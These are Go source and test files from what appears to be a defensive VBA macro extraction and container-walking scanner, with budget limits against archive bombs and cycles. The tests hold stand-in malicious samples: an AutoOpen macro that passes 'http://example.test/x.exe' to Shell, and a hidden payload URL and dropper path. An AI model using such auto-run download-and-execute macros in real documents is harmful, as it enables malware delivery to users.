		for _, s := range runs {
			if !bud.AddStorageString() {
				return false
			}
			out = append(out, s)
		}
		return true
	}
	for _, st := range projectRoot.Storages {
		if strings.EqualFold(st.Name, "VBA") {
			continue
		}
		for _, stream := range st.Streams {
			if !add(printableRuns(stream.Data, 8)) {
				return out
			}
		}
	}
	if dv := fileRoot.Stream("DocumentVariables"); dv != nil {
		add(printableRuns(dv.Data, 8))
	}
	return out
}

// printableRuns extracts maximal printable-ASCII runs of at least minLen
// characters.
func printableRuns(data []byte, minLen int) []string {
	var out []string
	start := -1
	for i := 0; i <= len(data); i++ {
		printable := i < len(data) && data[i] >= 0x20 && data[i] <= 0x7E
		if printable {
			if start < 0 {
				start = i
			}
			continue
		}
		if start >= 0 && i-start >= minLen {
			out = append(out, string(data[start:i]))
		}
		start = -1
	}
	return out
}

// findProjectRoot locates the storage that directly contains the VBA
// sub-storage: the root itself (vbaProject.bin), "Macros" (Word), or
// "_VBA_PROJECT_CUR" (Excel); failing those, any storage in the tree with
// a VBA/dir pair, since malware relocates projects.
func findProjectRoot(root *cfb.Storage) *cfb.Storage {
	candidates := []*cfb.Storage{root, root.Storage("Macros"), root.Storage("_VBA_PROJECT_CUR")}
	for _, c := range candidates {
		if hasVBA(c) {
			return c
		}
	}
	var found *cfb.Storage
	var walk func(s *cfb.Storage)
	walk = func(s *cfb.Storage) {
		if found != nil {
			return
		}
		if hasVBA(s) {
			found = s
			return
		}
		for _, c := range s.Storages {
			walk(c)
		}
	}
	walk(root)
	return found
}

func hasVBA(s *cfb.Storage) bool {
	if s == nil {
		return false
	}
	vba := s.Storage("VBA")
	return vba != nil && vba.Stream("dir") != nil
}

// NormalizeSource canonicalizes macro source for duplicate detection:
// CRLF/CR are folded to LF and trailing whitespace per line is dropped.
// The `Attribute VB_Name` header lines the VBA editor prepends are also
// removed, since the same macro pasted into differently named modules is
// still the same macro.
func NormalizeSource(src string) string {
	src = strings.ReplaceAll(src, "\r\n", "\n")
	src = strings.ReplaceAll(src, "\r", "\n")
	lines := strings.Split(src, "\n")
	out := make([]string, 0, len(lines))
	for _, l := range lines {
		trimmed := strings.TrimRight(l, " \t")
		if strings.HasPrefix(strings.TrimSpace(trimmed), "Attribute VB_") {
			continue
		}
		out = append(out, trimmed)
	}
	return strings.Join(out, "\n")
}

// Fingerprint returns a stable identity for duplicate elimination.
func Fingerprint(src string) [32]byte {
	return sha256.Sum256([]byte(NormalizeSource(src)))
}

// Dedup removes macros whose normalized source has been seen before,
// preserving first occurrences in order.
func Dedup(macros []Macro) []Macro {
	seen := make(map[[32]byte]bool, len(macros))
	out := make([]Macro, 0, len(macros))
	for _, m := range macros {
		fp := Fingerprint(m.Source)
		if seen[fp] {
			continue
		}
		seen[fp] = true
		out = append(out, m)
	}
	return out
}

// FilterSignificant drops macros whose normalized source is shorter than
// minBytes (use MinSignificantBytes for the paper's rule).
func FilterSignificant(macros []Macro, minBytes int) []Macro {
	out := make([]Macro, 0, len(macros))
	for _, m := range macros {
		if len(NormalizeSource(m.Source)) >= minBytes {
			out = append(out, m)
		}
	}
	return out
}
