package extract

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/cfb"
	"repro/internal/ooxml"
	"repro/internal/ovba"
)

const src1 = `Sub AutoOpen()
    MsgBox "payload one with enough text to pass the significance filter easily"
    Dim counter As Long
    counter = counter + 1
End Sub
`

func buildDoc(t *testing.T, prefix string, modules ...ovba.Module) []byte {
	t.Helper()
	p := &ovba.Project{Name: "P", Modules: modules}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, prefix); err != nil {
		t.Fatal(err)
	}
	if prefix == "Macros" {
		if err := b.AddStream("WordDocument", []byte("stub")); err != nil {
			t.Fatal(err)
		}
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestFileOLEWord(t *testing.T) {
	raw := buildDoc(t, "Macros", ovba.Module{Name: "Module1", Source: src1})
	res, err := File(raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.Format != FormatOLE {
		t.Errorf("format = %v", res.Format)
	}
	if len(res.Macros) != 1 || res.Macros[0].Source != src1 {
		t.Fatalf("macros = %+v", res.Macros)
	}
}

func TestFileOLEExcel(t *testing.T) {
	raw := buildDoc(t, "_VBA_PROJECT_CUR", ovba.Module{Name: "Sheet1", Source: src1, Type: ovba.ModuleDocument})
	res, err := File(raw)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Macros) != 1 || !res.Macros[0].Doc {
		t.Fatalf("macros = %+v", res.Macros)
	}
}

func TestFileOOXML(t *testing.T) {
	vbaBin := buildDoc(t, "", ovba.Module{Name: "Module1", Source: src1})
	doc, err := ooxml.Write(ooxml.DocWord, vbaBin, 0)
	if err != nil {
		t.Fatal(err)
	}
	res, err := File(doc)
	if err != nil {
		t.Fatal(err)
	}
	if res.Format != FormatOOXML {
		t.Errorf("format = %v", res.Format)
	}
	if len(res.Macros) != 1 || res.Macros[0].Source != src1 {
		t.Fatalf("macros = %+v", res.Macros)
	}
}

func TestFileRelocatedProject(t *testing.T) {
	raw := buildDoc(t, "Hidden/Deep", ovba.Module{Name: "M", Source: src1})
	res, err := File(raw)
	if err != nil {
		t.Fatalf("relocated project not found: %v", err)
	}
	if len(res.Macros) != 1 {
		t.Fatalf("macros = %+v", res.Macros)
	}
}

func TestFileNoMacros(t *testing.T) {
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("plain")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := File(raw); !errors.Is(err, ErrNoMacros) {
		t.Errorf("err = %v, want ErrNoMacros", err)
	}

	doc, err := ooxml.Write(ooxml.DocWord, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	// A docm whose vbaProject.bin is empty parses as corrupt OLE, not as
	// "no macros": empty part is present but unreadable.
	if _, err := File(doc); err == nil {
		t.Error("empty vba part accepted")
	}
}

func TestFileGarbage(t *testing.T) {
	if _, err := File([]byte("garbage that is not any container")); err == nil {
		t.Error("garbage accepted")
	}
}

func TestNormalizeSource(t *testing.T) {
	in := "Attribute VB_Name = \"Module1\"\r\nSub A()  \r\n  x = 1\t\r\nEnd Sub\r\n"
	want := "Sub A()\n  x = 1\nEnd Sub\n"
	if got := NormalizeSource(in); got != want {
		t.Errorf("NormalizeSource = %q, want %q", got, want)
	}
}

func TestDedup(t *testing.T) {
	a := Macro{Module: "A", Source: "Sub X()\r\nEnd Sub"}
	b := Macro{Module: "B", Source: "Attribute VB_Name = \"B\"\nSub X()\nEnd Sub"}
	c := Macro{Module: "C", Source: "Sub Y()\nEnd Sub"}
	out := Dedup([]Macro{a, b, c, a})
	if len(out) != 2 {
		t.Fatalf("dedup kept %d macros: %+v", len(out), out)
	}
	if out[0].Module != "A" || out[1].Module != "C" {
		t.Errorf("kept %q and %q", out[0].Module, out[1].Module)
	}
}

func TestFilterSignificant(t *testing.T) {
	small := Macro{Source: "' tiny"}
	big := Macro{Source: src1}
	out := FilterSignificant([]Macro{small, big}, MinSignificantBytes)
	if len(out) != 1 || out[0].Source != src1 {
		t.Fatalf("filtered = %+v", out)
	}
	// Comment-only macros padded with whitespace must not pass.
	padded := Macro{Source: "' x" + strings.Repeat(" ", 300) + "\n"}
	if got := FilterSignificant([]Macro{padded}, MinSignificantBytes); len(got) != 0 {
		t.Error("whitespace padding defeated the significance filter")
	}
}

func TestFingerprintStable(t *testing.T) {
	if Fingerprint("Sub A()\r\nEnd Sub") != Fingerprint("Sub A()\nEnd Sub") {
		t.Error("CRLF changes fingerprint")
	}
	if Fingerprint("Sub A()") == Fingerprint("Sub B()") {
		t.Error("different sources collide")
	}
}

func TestFormatString(t *testing.T) {
	if FormatOLE.String() != "ole" || FormatOOXML.String() != "ooxml" || FormatUnknown.String() != "unknown" {
		t.Error("Format.String broken")
	}
}

func BenchmarkExtractOLE(b *testing.B) {
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{Name: "M", Source: strings.Repeat(src1, 10)}}}
	bd := cfb.NewBuilder()
	if err := p.WriteTo(bd, "Macros"); err != nil {
		b.Fatal(err)
	}
	raw, err := bd.Bytes()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := File(raw); err != nil {
			b.Fatal(err)
		}
	}
}

func TestPrintableRuns(t *testing.T) {
	data := []byte("\x00\x01short\x00this is long enough\x02\x03also recoverable!")
	runs := printableRuns(data, 8)
	if len(runs) != 2 {
		t.Fatalf("runs = %q", runs)
	}
	if runs[0] != "this is long enough" || runs[1] != "also recoverable!" {
		t.Errorf("runs = %q", runs)
	}
	if got := printableRuns(nil, 8); len(got) != 0 {
		t.Errorf("nil input runs = %q", got)
	}
}

func TestStorageStringsRecovered(t *testing.T) {
	// A document with a UserForm caption stream and document variables
	// alongside the VBA project: both must surface, macro code must not.
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{Name: "M", Source: src1}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	caption := []byte{0x00, 0x02}
	caption = append(caption, []byte("http://hidden.example/payload.exe")...)
	if err := b.AddStream("Macros/UserForm1/o", caption); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("DocumentVariables", []byte("varname\x00C:\\Temp\\drop.exe\x00")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	res, err := File(raw)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(res.StorageStrings, "|")
	if !strings.Contains(joined, "http://hidden.example/payload.exe") {
		t.Errorf("caption not recovered: %q", res.StorageStrings)
	}
	if !strings.Contains(joined, `C:\Temp\drop.exe`) {
		t.Errorf("document variable not recovered: %q", res.StorageStrings)
	}
	// VBA code streams must not leak into storage strings.
	if strings.Contains(joined, "AutoOpen") || strings.Contains(joined, "significance") {
		t.Errorf("VBA code leaked into storage strings: %q", res.StorageStrings)
	}
}
