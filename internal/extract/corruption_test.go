package extract

import (
	"math/rand"
	"testing"

	"repro/internal/cfb"
	"repro/internal/ooxml"
	"repro/internal/ovba"
)

// Failure injection: the malicious corpus contains deliberately corrupted
// files, so every parser layer must fail with an error — never a panic —
// on arbitrary mutations of valid documents.

func buildValidDoc(t testing.TB) []byte {
	t.Helper()
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{
		Name: "Module1",
		Source: `Sub AutoOpen()
    Dim target As String
    target = "http://example.test/x.exe"
    Shell target, 1
End Sub
`,
	}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestByteFlipsNeverPanic(t *testing.T) {
	raw := buildValidDoc(t)
	rng := rand.New(rand.NewSource(1))
	for trial := 0; trial < 400; trial++ {
		mutated := append([]byte(nil), raw...)
		// Flip 1-8 random bytes.
		for k := 0; k < 1+rng.Intn(8); k++ {
			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
		}
		// Must not panic; errors are fine, results are fine.
		_, _ = File(mutated)
	}
}

func TestTruncationsNeverPanic(t *testing.T) {
	raw := buildValidDoc(t)
	for cut := 0; cut < len(raw); cut += 97 {
		_, _ = File(raw[:cut])
	}
}

func TestOOXMLCorruptionNeverPanics(t *testing.T) {
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{Name: "M", Source: "Sub A()\nEnd Sub\n"}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, ""); err != nil {
		t.Fatal(err)
	}
	vbaBin, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	doc, err := ooxml.Write(ooxml.DocWord, vbaBin, 0)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(2))
	for trial := 0; trial < 200; trial++ {
		mutated := append([]byte(nil), doc...)
		for k := 0; k < 1+rng.Intn(6); k++ {
			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
		}
		_, _ = File(mutated)
	}
}

func TestCompressedStreamCorruptionNeverPanics(t *testing.T) {
	// Target the module stream specifically: decompression sees the worst
	// of the corruption.
	src := "Sub A()\n    x = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\nEnd Sub\n"
	comp := ovba.Compress([]byte(src))
	rng := rand.New(rand.NewSource(3))
	for trial := 0; trial < 500; trial++ {
		mutated := append([]byte(nil), comp...)
		for k := 0; k < 1+rng.Intn(4); k++ {
			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
		}
		_, _ = ovba.Decompress(mutated)
	}
}
