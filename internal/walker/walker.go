// Package walker recursively opens container files — plain ZIP archives,
// macro-enabled OOXML documents (themselves ZIPs), and the OLE compound
// files nested inside either — and surfaces every scannable document with
// its provenance path. It is the intake-side answer to how macro malware
// actually arrives: a .docm inside a .zip attachment, or an OLE object
// embedded three containers deep (MEADE, arXiv:1804.08162).
//
// Every step charges the document's hostile.Budget: archive entries
// against MaxArchiveEntries, nesting against MaxContainerDepth, inflated
// bytes against MaxDecompressedBytes, and wall clock against the budget
// deadline. Archive bombs therefore exhaust a budget and return a typed
// error; a bomb nested beside legitimate documents degrades the walk
// (Tree.Degraded, per-child Issues) instead of failing it. A cyclic
// container reference — a child whose bytes equal one of its ancestors —
// is cut with hostile.ErrCycle.
package walker

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"strings"

	"repro/internal/cfb"
	"repro/internal/hostile"
	"repro/internal/ooxml"
)

// ErrNotContainer reports a root input that is neither a ZIP archive nor
// an OLE compound file — nothing the walker (or the scanner behind it)
// can open. It matches hostile.ErrMalformed.
var ErrNotContainer = errors.New("walker: not a container format")

// ErrNoDocuments reports a container that opened fine but held nothing
// scannable (no embedded documents at any depth).
var ErrNoDocuments = errors.New("walker: no scannable documents in container")

// Doc is one scannable document discovered in the container tree.
type Doc struct {
	// Path is the "!"-joined chain of archive entry names leading to the
	// document ("outer.zip entry invoice.docm" → "invoice.docm";
	// "a.zip!b.zip!doc.docm" for deeper nesting). Empty when the submitted
	// bytes are themselves the document.
	Path string
	// Data is the document bytes.
	Data []byte
	// Depth is how many containers were opened to reach it (0 = root).
	Depth int
}

// Issue is one per-child failure that degraded (but did not abort) a walk.
type Issue struct {
	// Path is the provenance of the child that failed.
	Path string
	// Err is the failure, classifiable with hostile.Classify.
	Err error
}

// Error implements the error interface.
func (i Issue) Error() string { return fmt.Sprintf("walker: %s: %v", i.Path, i.Err) }

// Unwrap exposes the underlying error to errors.Is/errors.As.
func (i Issue) Unwrap() error { return i.Err }

// Tree is the outcome of walking one submitted file.
type Tree struct {
	// Docs are the scannable documents found, in discovery order. The
	// root document itself (when the submitted bytes are a .docm or OLE
	// file rather than a plain archive) is first, with Path "".
	Docs []Doc
	// Issues lists children that could not be opened; the walk continued
	// past them. Non-empty implies Degraded.
	Issues []Issue
	// Degraded reports a partial walk: some children were lost to
	// corruption or budget limits, Docs holds what survived.
	Degraded bool
	// Entries counts the archive entries visited across all nesting.
	Entries int
}

// Walk opens data as a container tree under bud and returns every
// scannable document with provenance. It fails outright when the root is
// not a container, when the root container is structurally hostile, or
// when nothing scannable survived — budget-exhaustion causes then outrank
// structural ones (quarantine over reject), mirroring extract.FileBudget.
// A nil budget disables the limits.
func Walk(data []byte, bud *hostile.Budget) (*Tree, error) {
	t := &Tree{}
	if err := walk(data, "", 0, nil, bud, t); err != nil {
		return nil, err
	}
	if len(t.Docs) == 0 {
		if len(t.Issues) > 0 {
			return nil, worstIssue(t.Issues)
		}
		return nil, ErrNoDocuments
	}
	t.Degraded = len(t.Issues) > 0
	return t, nil
}

// walk recurses into one node of the container tree. A returned error
// means this node produced nothing; the caller decides whether that is
// fatal (root) or a degradation (child).
func walk(data []byte, path string, depth int, ancestors [][32]byte, bud *hostile.Budget, t *Tree) error {
	if err := bud.CheckDeadline(); err != nil {
		return err
	}
	// Cycle defense: a child whose content equals any ancestor would walk
	// forever under depth alone being consumed one level per lap.
	sum := sha256.Sum256(data)
	for _, a := range ancestors {
		if a == sum {
			return fmt.Errorf("walker: container contains itself at %q: %w", path, hostile.ErrCycle)
		}
	}

	switch {
	case bytes.HasPrefix(data, cfb.Signature[:]):
		// OLE compound file: a scannable leaf (.doc/.xls or an embedded
		// OLE object). Validate its structure now so a corrupt embedded
		// object surfaces as a typed walk issue, not a later scan surprise.
		if err := bud.EnterContainer(); err != nil {
			return err
		}
		_, err := cfb.ParseBudget(data, bud)
		bud.ExitContainer()
		if err != nil {
			return err
		}
		t.Docs = append(t.Docs, Doc{Path: path, Data: data, Depth: depth})
		return nil
	case ooxml.IsOOXML(data):
		return walkZip(data, path, depth, append(ancestors, sum), bud, t)
	default:
		if path == "" {
			return fmt.Errorf("%w (%w)", ErrNotContainer, hostile.ErrMalformed)
		}
		// A nested non-container entry (document.xml, images, ...) is
		// simply not scannable; the parent keeps walking.
		return nil
	}
}

// walkZip opens one ZIP layer: the archive itself is a document when it
// carries a VBA part (a .docm/.xlsm), and every nested container entry is
// recursed into.
func walkZip(data []byte, path string, depth int, ancestors [][32]byte, bud *hostile.Budget, t *Tree) error {
	if err := bud.EnterContainer(); err != nil {
		return err
	}
	defer bud.ExitContainer()

	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return fmt.Errorf("walker: open zip %q: %v (%w)", path, err, hostile.ErrMalformed)
	}

	// A VBA part makes this ZIP a macro document in its own right: emit
	// the whole archive for scanning (extract handles the part), and skip
	// the part during recursion so its OLE blob is not scanned twice.
	isDoc := false
	for _, f := range zr.File {
		if isVBAPart(f.Name) {
			isDoc = true
			break
		}
	}
	if isDoc {
		t.Docs = append(t.Docs, Doc{Path: path, Data: data, Depth: depth})
	}

	for _, f := range zr.File {
		if err := bud.CheckDeadline(); err != nil {
			return err
		}
		if err := bud.VisitArchiveEntry(); err != nil {
			return err
		}
		t.Entries++
		name := f.Name
		if strings.HasSuffix(name, "/") || f.FileInfo().IsDir() {
			continue
		}
		if isDoc && isVBAPart(name) {
			continue
		}
		childPath := name
		if path != "" {
			childPath = path + "!" + name
		}
		child, ok, err := inflateContainer(f, bud)
		if err != nil {
			t.Issues = append(t.Issues, Issue{Path: childPath, Err: err})
			continue
		}
		if !ok {
			continue // regular file, nothing to open
		}
		if err := walk(child, childPath, depth+1, ancestors, bud, t); err != nil {
			t.Issues = append(t.Issues, Issue{Path: childPath, Err: err})
		}
	}
	return nil
}

// inflateContainer reads a ZIP entry if (and only if) its content sniffs
// as a container format, charging the inflated bytes to the budget. ok is
// false for regular files, which are never materialized.
func inflateContainer(f *zip.File, bud *hostile.Budget) (data []byte, ok bool, err error) {
	rc, err := f.Open()
	if err != nil {
		return nil, false, fmt.Errorf("walker: open entry: %v (%w)", err, hostile.ErrMalformed)
	}
	defer rc.Close()

	var head [8]byte
	n, err := io.ReadFull(rc, head[:])
	if err != nil && err != io.ErrUnexpectedEOF && err != io.EOF {
		return nil, false, fmt.Errorf("walker: read entry: %v (%w)", err, hostile.ErrTruncated)
	}
	if !bytes.HasPrefix(head[:n], cfb.Signature[:]) && !ooxml.IsOOXML(head[:n]) {
		return nil, false, nil
	}

	// Container candidate: inflate through the byte allowance, never
	// trusting the header's declared size for anything but a clamped
	// allocation hint (same discipline as ooxml.ExtractVBAProjectBudget).
	allow := bud.OutputAllowance()
	capHint := int64(f.UncompressedSize64)
	if capHint > allow {
		capHint = allow
	}
	if capHint > 1<<20 {
		capHint = 1 << 20
	}
	buf := bytes.NewBuffer(make([]byte, 0, capHint))
	buf.Write(head[:n])
	m, err := io.Copy(buf, io.LimitReader(rc, allow+1-int64(n)))
	if err != nil {
		return nil, false, fmt.Errorf("walker: inflate entry: %v (%w)", err, hostile.ErrTruncated)
	}
	total := int64(n) + m
	if total > allow {
		return nil, false, fmt.Errorf("walker: entry %s: %w", f.Name, bud.BombError(total))
	}
	if err := bud.GrowOutput(total); err != nil {
		return nil, false, fmt.Errorf("walker: entry %s: %w", f.Name, err)
	}
	return buf.Bytes(), true, nil
}

// isVBAPart reports whether a ZIP entry name is a VBA project part.
func isVBAPart(name string) bool {
	return strings.HasSuffix(strings.ToLower(name), "vbaproject.bin")
}

// worstIssue picks the error to surface when nothing was recoverable:
// budget exhaustion outranks structural corruption, because it flips the
// caller's disposition from reject to quarantine.
func worstIssue(issues []Issue) error {
	for _, i := range issues {
		if hostile.ExhaustsBudget(i.Err) {
			return i
		}
	}
	return issues[0]
}
