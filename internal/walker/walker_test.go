package walker

import (
	"errors"
	"testing"
	"time"

	"repro/internal/faultinject"
	"repro/internal/hostile"
)

func mustOLE(t *testing.T) []byte {
	t.Helper()
	ole, err := faultinject.ValidDoc()
	if err != nil {
		t.Fatal(err)
	}
	return ole
}

func mustDocm(t *testing.T) []byte {
	t.Helper()
	docm, err := faultinject.ValidOOXML()
	if err != nil {
		t.Fatal(err)
	}
	return docm
}

func mustZip(t *testing.T, entries map[string][]byte) []byte {
	t.Helper()
	data, err := faultinject.WrapZip(entries)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func defaultBudget() *hostile.Budget {
	return hostile.NewBudget(hostile.DefaultLimits())
}

func TestRootDocmIsSingleDoc(t *testing.T) {
	tree, err := Walk(mustDocm(t), defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	if len(tree.Docs) != 1 || tree.Docs[0].Path != "" || tree.Degraded {
		t.Fatalf("tree: %+v", tree)
	}
}

func TestRootOLEIsSingleDoc(t *testing.T) {
	tree, err := Walk(mustOLE(t), defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	if len(tree.Docs) != 1 || tree.Docs[0].Path != "" {
		t.Fatalf("tree: %+v", tree)
	}
}

func TestZipOfDocuments(t *testing.T) {
	data := mustZip(t, map[string][]byte{
		"invoice.docm": mustDocm(t),
		"legacy.doc":   mustOLE(t),
		"readme.txt":   []byte("just text, never inflated as a container"),
	})
	tree, err := Walk(data, defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]int{}
	for _, d := range tree.Docs {
		got[d.Path] = d.Depth
	}
	if len(got) != 2 || got["invoice.docm"] != 1 || got["legacy.doc"] != 1 {
		t.Fatalf("docs: %v", got)
	}
	if tree.Degraded {
		t.Fatalf("degraded with no losses: %+v", tree.Issues)
	}
}

func TestNestedZipProvenance(t *testing.T) {
	inner := mustZip(t, map[string][]byte{"report.docm": mustDocm(t)})
	outer := mustZip(t, map[string][]byte{"inner.zip": inner})
	tree, err := Walk(outer, defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	if len(tree.Docs) != 1 {
		t.Fatalf("docs: %+v", tree.Docs)
	}
	if p := tree.Docs[0].Path; p != "inner.zip!report.docm" {
		t.Fatalf("provenance = %q", p)
	}
	if d := tree.Docs[0].Depth; d != 2 {
		t.Fatalf("depth = %d", d)
	}
}

func TestDocmWithEmbeddedOLE(t *testing.T) {
	// A macro document that ALSO embeds an OLE object: both must surface,
	// and the vbaProject part must not be double-scanned as a third doc.
	data := mustZip(t, map[string][]byte{
		"word/vbaProject.bin":            mustOLE(t),
		"word/embeddings/oleObject1.bin": mustOLE(t),
		"word/document.xml":              []byte("<w:document/>"),
	})
	tree, err := Walk(data, defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, d := range tree.Docs {
		paths = append(paths, d.Path)
	}
	if len(paths) != 2 || paths[0] != "" || paths[1] != "word/embeddings/oleObject1.bin" {
		t.Fatalf("docs: %v", paths)
	}
}

func TestRootNotContainer(t *testing.T) {
	_, err := Walk([]byte("plain text body"), defaultBudget())
	if !errors.Is(err, ErrNotContainer) || !errors.Is(err, hostile.ErrMalformed) {
		t.Fatalf("err = %v", err)
	}
}

func TestEmptyZipNoDocuments(t *testing.T) {
	data := mustZip(t, map[string][]byte{"notes.txt": []byte("nothing scannable here at all")})
	_, err := Walk(data, defaultBudget())
	if !errors.Is(err, ErrNoDocuments) {
		t.Fatalf("err = %v", err)
	}
}

func TestZipInZipBombExhaustsByteBudget(t *testing.T) {
	c, err := faultinject.ZipInZipBomb(3, 8<<20)
	if err != nil {
		t.Fatal(err)
	}
	bud := hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: 1 << 20})
	_, err = Walk(c.Data, bud)
	if !hostile.ExhaustsBudget(err) || !errors.Is(err, hostile.ErrBomb) {
		t.Fatalf("bomb not budget-classified: %v", err)
	}
}

func TestDepthBudgetCutsDeepNesting(t *testing.T) {
	cur := mustZip(t, map[string][]byte{"doc.docm": mustDocm(t)})
	for i := 0; i < 6; i++ {
		cur = mustZip(t, map[string][]byte{"wrap.zip": cur})
	}
	bud := hostile.NewBudget(hostile.Limits{MaxContainerDepth: 3})
	_, err := Walk(cur, bud)
	if !hostile.ExhaustsBudget(err) || hostile.LimitName(err) != hostile.LimitContainerDepth {
		t.Fatalf("deep nesting not depth-limited: %v", err)
	}
}

func TestArchiveEntryBudget(t *testing.T) {
	entries := map[string][]byte{}
	for i := 0; i < 64; i++ {
		entries[string(rune('a'+i%26))+string(rune('0'+i/26))+".txt"] = []byte("filler entry")
	}
	bud := hostile.NewBudget(hostile.Limits{MaxArchiveEntries: 10})
	_, err := Walk(mustZip(t, entries), bud)
	if !hostile.ExhaustsBudget(err) || hostile.LimitName(err) != hostile.LimitArchiveEntries {
		t.Fatalf("entry fan-out not limited: %v", err)
	}
}

func TestNestedCyclicOLESurfacesCycle(t *testing.T) {
	c, err := faultinject.NestedCyclicOLE()
	if err != nil {
		t.Fatal(err)
	}
	_, err = Walk(c.Data, defaultBudget())
	if hostile.Classify(err) != "cycle" {
		t.Fatalf("FAT cycle not classified: %v", err)
	}
}

func TestSelfReferentialContentCut(t *testing.T) {
	// An archive layer whose child bytes equal an ancestor is cut with
	// ErrCycle by the content-hash chain (defense in depth behind the
	// depth budget — constructible only by a decoder bug or a crafted
	// overlapping-offset archive, but cheap to guard against).
	inner := mustZip(t, map[string][]byte{"doc.docm": mustDocm(t)})
	outer := mustZip(t, map[string][]byte{"inner.zip": inner, "twin.zip": inner})
	tree, err := Walk(outer, defaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	// Identical siblings are NOT a cycle (same bytes, different branches):
	// both must be walked.
	if len(tree.Docs) != 2 {
		t.Fatalf("identical siblings should both scan: %+v", tree.Docs)
	}
}

func TestTruncatedInnerDocmDegradesTyped(t *testing.T) {
	c, err := faultinject.TruncatedInnerDocm()
	if err != nil {
		t.Fatal(err)
	}
	_, err = Walk(c.Data, defaultBudget())
	if cls := hostile.Classify(err); cls == "" {
		t.Fatalf("truncated inner docm produced untyped error: %v", err)
	}
}

func TestBombBesideValidDocDegrades(t *testing.T) {
	bomb, err := faultinject.ZipInZipBomb(1, 8<<20)
	if err != nil {
		t.Fatal(err)
	}
	data := mustZip(t, map[string][]byte{
		"good.docm": mustDocm(t),
		"bomb.zip":  bomb.Data,
	})
	bud := hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: 1 << 20})
	tree, err := Walk(data, bud)
	if err != nil {
		t.Fatal(err)
	}
	if !tree.Degraded || len(tree.Docs) != 1 || tree.Docs[0].Path != "good.docm" {
		t.Fatalf("tree: docs=%+v degraded=%v", tree.Docs, tree.Degraded)
	}
	found := false
	for _, is := range tree.Issues {
		if hostile.ExhaustsBudget(is.Err) {
			found = true
		}
	}
	if !found {
		t.Fatalf("no budget-exhaustion issue recorded: %+v", tree.Issues)
	}
}

// TestCorruptionMatrix drives the walker over every fault-injection case
// (run under -race in CI): each must finish within the wall-clock cap and
// produce either a tree or a typed error — never a hang, panic, or an
// unclassifiable failure.
func TestCorruptionMatrix(t *testing.T) {
	cases, err := faultinject.All(42)
	if err != nil {
		t.Fatal(err)
	}
	lim := hostile.Limits{MaxDecompressedBytes: 32 << 20}
	for _, c := range cases {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			start := time.Now()
			bud := hostile.NewBudget(lim).WithDeadline(start.Add(10 * time.Second))
			tree, err := Walk(c.Data, bud)
			if took := time.Since(start); took > 15*time.Second {
				t.Fatalf("walk took %v — hung worker", took)
			}
			if err == nil {
				if len(tree.Docs) == 0 {
					t.Fatal("nil error but empty tree")
				}
				return
			}
			if hostile.Classify(err) == "" &&
				!errors.Is(err, ErrNotContainer) && !errors.Is(err, ErrNoDocuments) {
				t.Fatalf("untyped walk error: %v", err)
			}
		})
	}
}
