package queue

import (
	"context"
	"encoding/binary"
	"errors"
	"testing"
	"time"
)

const testTraceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"

func TestEnqueueTracedSurvivesRestart(t *testing.T) {
	dir := t.TempDir()
	q, err := Open(dir, Options{NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	id, err := q.EnqueueTraced("doc.docm", []byte("meta"), []byte("data"), testTraceparent)
	if err != nil {
		t.Fatal(err)
	}
	q.Close()

	// Crash recovery: the trace rides the journal.
	q2, err := Open(dir, Options{NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer q2.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	d, err := q2.Receive(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if d.ID != id || d.Trace != testTraceparent {
		t.Fatalf("redelivered trace = %q (id %d), want %q (id %d)", d.Trace, d.ID, testTraceparent, id)
	}
	if err := d.Ack(); err != nil {
		t.Fatal(err)
	}
}

func TestTraceSurvivesDeadLetterAndRedrive(t *testing.T) {
	q, err := Open(t.TempDir(), Options{NoSync: true, MaxAttempts: 1, RetryBackoff: time.Millisecond})
